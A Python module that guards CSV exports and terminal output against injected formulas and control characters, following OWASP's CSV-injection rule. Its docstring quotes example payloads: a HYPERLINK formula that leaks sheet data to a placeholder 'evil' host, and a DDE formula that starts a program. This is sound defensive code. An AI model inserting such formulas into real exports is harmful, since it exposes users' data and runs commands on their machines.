"""Untrusted text made safe for the two places it can act instead of being read: spreadsheets and terminals.

Titles, owners, captions, labels, tags and file names come from strangers (photo sites, shared
folders, a corpus someone sent us). Two consumers of our output *execute* some text:

* **Spreadsheets** run a CSV cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (tab and
  carriage return lead to the same place), so a title of ``=HYPERLINK("http://evil/?"&A1,"Click")``
  leaks the sheet and ``=cmd|' /C calc'!A0`` can start a program. :func:`csv_safe_cell` applies
  OWASP's rule (https://owasp.org/www-community/attacks/CSV_Injection) to every cell we write:
  such a cell gets a leading single quote, so a spreadsheet takes it as text, not a formula. We keep
  to the rule exactly as OWASP states it: only the first character counts, and we do not look past
  leading spaces (the attribution writer already collapses leading whitespace, so its title and
  owner cells start with their first visible character). OWASP also asks that cells be quoted and
  quotes doubled, so that a separator inside a payload cannot start a new cell whose first
  character is dangerous; the ``csv`` module already quotes every cell that holds a separator,
  quote or line break, which gives that guarantee.
* **Terminals** obey escape sequences: ``ESC ] 0 ; ... BEL`` retitles the window, ``ESC [ 2 J``
  clears the screen, and the single byte 0x9B is CSI on terminals that honour C1 controls. Rich's
  markup escaping does not touch these. :func:`terminal_safe` replaces every C0 control, DEL and C1
  control with a visible ``\\xNN`` (or ``\\t``, ``\\n``, ``\\r``), so the user sees that something was
  there instead of having their terminal driven by it.

A neutral core module: it imports nothing from photocorpus, so every stage and the CLI can use it.
"""

from __future__ import annotations

import numbers
import re
from typing import Any

# OWASP's list: formula starters plus tab (0x09) and carriage return (0x0D).
CSV_FORMULA_STARTERS = frozenset("=+-@\t\r")
CSV_TEXT_MARKER = "'"

# C0 controls, DEL and C1 controls: everything a terminal may act on rather than print.
_CONTROL_CHARS = re.compile(r"[\x00-\x1f\x7f-\x9f]")
_CONTROL_CHARS_BUT_NEWLINE = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]")
_SHORT_ESCAPES = {"\t": "\\t", "\n": "\\n", "\r": "\\r"}


def _needs_text_marker(text: str) -> bool:
    # Leading quotes are skipped so that a value which itself starts with ``'=`` also gets a marker:
    # otherwise restore_csv_cell could not tell it from a neutralised ``=`` and would eat its quote.
    stripped = text.lstrip(CSV_TEXT_MARKER)
    return bool(stripped) and stripped[0] in CSV_FORMULA_STARTERS


def csv_safe_cell(value: Any) -> Any:
    """A CSV cell that no spreadsheet runs as a formula: text starting with = + - @ TAB CR gets a ``'``.

    Numbers (int, float, numpy scalars) pass unchanged: a longitude of -73.9 or a negative score is a
    number we computed or parsed, not text a stranger chose, and a spreadsheet shows it as a number;
    prefixing it would turn every negative value into text. ``None`` stays ``None`` (an empty cell).
    Anything else is written as its ``str``, so it is checked as text. The marker is reversible:
    :func:`restore_csv_cell` gives the original back.
    """
    if value is None or isinstance(value, numbers.Number):
        return value
    text = str(value)
    return CSV_TEXT_MARKER + text if _needs_text_marker(text) else text


def csv_safe_row(values: Any) -> list[Any]:
    """:func:`csv_safe_cell` over one row (any iterable of cells)."""
    return [csv_safe_cell(v) for v in values]


def restore_csv_cell(text: str) -> str:
    """The original text of a cell written by :func:`csv_safe_cell` (for our readers of our own CSVs).

    A cell without the marker is returned as it is, so a file that a spreadsheet re-saved (which drops
    the marker) or a person typed reads the same way.
    """
    if text.startswith(CSV_TEXT_MARKER) and _needs_text_marker(text[1:]):
        return text[1:]
    return text


def terminal_safe(value: Any, *, keep_newlines: bool = False) -> str:
    """``str(value)`` with every C0 control, DEL and C1 control shown as an escape such as ``\\x1b``.

    Within one value even tab and newline are escaped: a label is one cell of a table or one word of
    a line, and a newline in it could forge a line of our output. ``keep_newlines`` keeps them for
    our own multi-line messages (errors that list problems one per line); a newline only moves to the
    next line, it cannot drive the terminal. Backslashes are left alone so that Windows paths stay
    readable; a literal ``\\x1b`` typed into a title is harmless text either way.
    """
    text = str(value)
    pattern = _CONTROL_CHARS_BUT_NEWLINE if keep_newlines else _CONTROL_CHARS
    return pattern.sub(lambda m: _SHORT_ESCAPES.get(m.group(), f"\\x{ord(m.group()):02x}"), text)
